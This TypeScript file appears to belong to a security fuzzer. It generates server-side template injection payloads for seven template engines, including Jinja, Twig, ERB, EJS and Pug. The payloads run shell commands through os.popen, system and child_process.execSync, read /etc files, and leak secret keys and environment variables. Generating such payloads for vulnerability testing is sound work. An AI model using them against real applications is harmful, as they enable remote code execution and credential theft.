import type { Random } from '../../lib/random.ts';
import type { Grammar } from '../contract.ts';

/** What is reached, by the name of the production. */
export type Goals = readonly (readonly [kind: string, make: (random: Random) => string])[];

/** How an engine marks what it evaluates. */
export interface Dialect {
  readonly language: string;
  /** Around an expression, in text; an expression of an output. */
  readonly marks: readonly ((expression: string) => string)[];
  /** Statements in text, which are no expressions. */
  readonly statements: Goals;
  readonly goals: Goals;
  /** Joins texts, out of a string and back. */
  readonly joins: readonly ((expression: string) => string)[];
}

/** Of four digits: the product of two is shown as a number that stands nowhere. */
export function number(random: Random): number {
  return 1000 + random.below(9000);
}

/** What only an engine computes. */
export function sum(random: Random): string {
  return random.pick([
    `${number(random)}*${number(random)}`,
    `${number(random)} * ${number(random)}`,
    `${number(random)}+${number(random)}`,
    `(${number(random)}*${number(random)})`,
    `${number(random)}*${number(random)}-${number(random)}`,
  ]);
}

/** Three to seven small letters. */
export function name(random: Random): string {
  return random
    .times(3 + random.below(5), () => String.fromCharCode(97 + random.below(26)))
    .join('');
}

/** Of a shell. */
export function command(random: Random): string {
  return random.pick([
    'id',
    'whoami',
    'uname -a',
    `cat /etc/${name(random)}`,
    `ls /${name(random)}`,
  ]);
}

/** No goal of one who may write an expression. */
export const arithmetic: Goals[number] = ['arithmetic', sum];
const secret: Goals[number] = [
  'secret',
  (random) => random.pick(['config.secret_key', "config['secret_key']"]),
];

const jinjaGlobals = ['cycler', 'joiner', 'namespace', 'lipsum', 'dict'];
const curly = [
  (one: string) => `{{${one}}}`,
  (one: string) => `{{ ${one} }}`,
  (one: string) => `{{-${one}-}}`,
];
const quoted = (join: string) => (one: string) => `"${join}(${one})${join}"`;

const jinja: Dialect = {
  language: 'jinja',
  marks: [...curly, (one) => `{% print(${one}) %}`, (one) => `{% if 1 %}{{${one}}}{% endif %}`],
  statements: [
    ['loop', (random) => `{% for ${name(random)} in [1] %}{{ ${sum(random)} }}{% endfor %}`],
    [
      'variable',
      (random) => {
        const x = name(random);
        return `{% set ${x}=${sum(random)} %}{{${x}}}`;
      },
    ],
    ['block', (random) => `{% with %}{{config}}{% endwith %}{{${number(random)}}}`],
  ],
  goals: [
    arithmetic,
    secret,
    [
      'object',
      (random) => `${random.pick(["''", '()', '[]', '{}', '1', 'config'])}.__class__.__mro__`,
    ],
    [
      'subclasses',
      (random) => `${random.pick(["''", '()', '[]', '{}'])}.__class__.__base__.__subclasses__()`,
    ],
    [
      'globals',
      (random) =>
        `${random.pick(jinjaGlobals.slice(0, 3))}.__init__.__globals__.os.popen('${command(random)}').read()`,
    ],
    ['lipsum', (random) => `lipsum.__globals__['os'].popen('${command(random)}').read()`],
    [
      'builtins',
      (random) =>
        `${random.pick(jinjaGlobals.slice(0, 3))}.__init__.__globals__.__builtins__.open('/etc/${name(random)}').read()`,
    ],
    [
      'import',
      (random) =>
        `self.__init__.__globals__.__builtins__.__import__('os').popen('${command(random)}').read()`,
    ],
  ],
  joins: [quoted('~'), quoted(' ~ '), (one) => `"}}{{${one}}}{{"`],
};

const twig: Dialect = {
  language: 'twig',
  marks: [
    ...curly,
    (one) => `{% if 1 %}{{${one}}}{% endif %}`,
    (one) => `{% for x in [1] %}{{${one}}}{% endfor %}`,
  ],
  statements: [
    [
      'variable',
      (random) => {
        const x = name(random);
        return `{% set ${x}=${sum(random)} %}{{${x}}}`;
      },
    ],
  ],
  goals: [
    arithmetic,
    secret,
    [
      'filter',
      (random) =>
        `['${command(random)}']|${random.pick(["map('system')", "filter('system')", "map('passthru')"])}|join`,
    ],
    ['sort', (random) => `['${command(random)}',0]|sort('system')|join`],
    ['reduce', (random) => `[0,0]|reduce('system','${command(random)}')`],
    ['context', () => '_context|json_encode'],
    ['constant', () => "constant('PHP_OS')"],
  ],
  joins: [quoted('~'), quoted(' ~ '), (one) => `#{${one}}`, (one) => `"}}{{${one}}}{{"`],
};

const script: Goals = [
  arithmetic,
  ['object', () => '[].constructor.constructor'],
  ['function', (random) => `[].at.constructor("return ${sum(random)}")()`],
  ['process', () => '[].at.constructor("return process.version+process.pid")()'],
  [
    'program',
    (random) =>
      `[].at.constructor("return process.mainModule.require('child_process').execSync('${command(random)}')")()`,
  ],
  [
    'file',
    (random) =>
      `[].at.constructor("return process.mainModule.require('fs').readFileSync('/etc/${name(random)}')")()`,
  ],
];

const nunjucks: Dialect = {
  language: 'nunjucks',
  marks: [...curly, (one) => `{% if 1 %}{{${one}}}{% endif %}`],
  statements: [
    [
      'variable',
      (random) => {
        const x = name(random);
        return `{% set ${x}=${sum(random)} %}{{${x}}}`;
      },
    ],
    ['loop', (random) => `{% for x in [1] %}{{ ${sum(random)} }}{% endfor %}`],
  ],
  goals: [
    arithmetic,
    secret,
    [
      'function',
      (random) =>
        `${random.pick(['range', 'cycler', 'joiner'])}.constructor('return ${sum(random)}')()`,
    ],
    [
      'program',
      (random) =>
        `${random.pick(['range', 'cycler', 'joiner'])}.constructor('return process.mainModule.require(\\'child_process\\').execSync(\\'${command(random)}\\')')()`,
    ],
    ['dump', () => 'config|dump'],
  ],
  joins: [quoted('~'), quoted('+'), (one) => `"}}{{${one}}}{{"`],
};

const percent = [
  (one: string) => `<%=${one}%>`,
  (one: string) => `<%= ${one} %>`,
  (one: string) => `<%= ${one} -%>`,
];
const ejs: Dialect = {
  language: 'ejs',
  marks: [...percent, (one) => `<%-${one}%>`, (one) => `<% if(1){ %><%= ${one} %><% } %>`],
  statements: [
    [
      'variable',
      (random) => {
        const x = name(random);
        return `<% var ${x}_=${sum(random)} %><%= ${x}_ %>`;
      },
    ],
  ],
  goals: [
    ...script,
    secret,
    [
      'module',
      (random) =>
        `process.mainModule.require('child_process').${random.pick(['execSync', 'spawnSync', 'exec'])}('${command(random)}')`,
    ],
    ['environment', () => 'JSON.stringify(process.env)+process.version'],
  ],
  joins: [quoted('+'), quoted(' + '), (one) => `"%><%=${one}%><%="`],
};

const erb: Dialect = {
  language: 'erb',
  marks: [...percent.slice(0, 2), (one) => `<% if true %><%= ${one} %><% end %>`],
  statements: [
    ['loop', (random) => `<% 1.times do %><%= ${sum(random)} %><% end %>`],
    ['statement', (random) => `<% system('${command(random)}') %>`],
  ],
  goals: [
    arithmetic,
    ['secret', (random) => random.pick(['config', 'config[:secret_key]', 'config.to_a'])],
    [
      'program',
      (random) => `${random.pick(['system', 'exec', 'Kernel.spawn'])}('${command(random)}')`,
    ],
    ['backticks', (random) => random.pick([`\`${command(random)}\``, `%x(${command(random)})`])],
    ['opened', (random) => `IO.popen('${command(random)}').read`],
    ['file', (random) => `${random.pick(['File', 'IO'])}.read('/etc/${name(random)}')`],
    [
      'folder',
      (random) => `Dir.${random.pick(['entries', 'glob', 'children'])}('/${name(random)}')`,
    ],
    ['object', () => 'self.class.ancestors'],
  ],
  joins: [(one) => `"+(${one}).to_s+"`, (one) => `#{${one}}`, (one) => `"%><%=${one}%><%="`],
};

const pug: Dialect = {
  language: 'pug',
  marks: [
    (one) => `#{${one}}`,
    (one) => `!{${one}}`,
    (one) => `#[b= ${one}]`,
    (one) => `\np= ${one}`,
    (one) => `\n!= ${one}`,
  ],
  statements: [
    [
      'code',
      (random) => {
        const x = name(random);
        return `\n- var ${x}_=${sum(random)}\np= ${x}_`;
      },
    ],
  ],
  goals: [
    ...script,
    secret,
    [
      'module',
      (random) => `process.mainModule.require('child_process').execSync('${command(random)}')`,
    ],
    [
      'global',
      (random) =>
        `global.process.mainModule.require('child_process').execSync('${command(random)}')`,
    ],
  ],
  joins: [quoted('+'), (one) => `" + (${one}) + "`],
};

const handlebars: Dialect = {
  language: 'handlebars',
  marks: [
    (one) => `{{${one}}}`,
    (one) => `{{ ${one} }}`,
    (one) => `{{{${one}}}}`,
    (one) => `{{&${one}}}`,
    (one) => `{{~${one}~}}`,
  ],
  statements: [
    ['each', () => '{{#each config}}{{this}}{{/each}}'],
    ['with', () => '{{#with config}}{{secret_key}}{{/with}}'],
    [
      'as',
      (random) => {
        const x = name(random);
        return `{{#with config as |${x}|}}{{${x}.secret_key}}{{/with}}`;
      },
    ],
    ['if', () => '{{#if config}}{{config.secret_key}}{{/if}}'],
  ],
  goals: [
    [
      'secret',
      (random) =>
        random.pick([
          'config.secret_key',
          'config.[secret_key]',
          'this.config.secret_key',
          './config/secret_key',
        ]),
    ],
    [
      'lookup',
      (random) => `lookup ${random.pick(['config', 'this.config', '@root.config'])} "secret_key"`,
    ],
    ['root', () => '@root.config.secret_key'],
  ],
  joins: [],
};

/** Attacks on the contexts that template engines share. */
export function templateGrammar(dialect: Dialect): Grammar {
  return {
    language: dialect.language,
    attack: (random, _oracle, context) => {
      const isExpression = context.name === 'expression';
      // Who may write an expression may calculate: that alone is no attack.
      const goals = dialect.goals.filter((one) => !isExpression || one !== arithmetic);
      const [goal, make] = random.pick(goals);
      if (isExpression) return { kind: goal, values: [make(random)] };
      const isPugAttribute = dialect.language === 'pug' && context.name === 'attribute';
      if (context.name === 'expression string' || isPugAttribute) {
        return {
          kind: `${goal}/out of a string`,
          values: [random.pick(dialect.joins)(make(random))],
        };
      }
      const lead = random.pick(['', `${name(random)} `]);
      if (random.chance(20)) {
        const [statement, write] = random.pick(dialect.statements);
        return { kind: statement, values: [lead + write(random)] };
      }
      const text = random.pick(dialect.marks)(make(random));
      return { kind: `${goal}/in text`, values: [lead + text] };
    },
  };
}

/** A grammar for each template engine, under its name. */
export const templateGrammars: readonly Grammar[] = [
  jinja,
  twig,
  erb,
  nunjucks,
  ejs,
  handlebars,
  pug,
].map(templateGrammar);
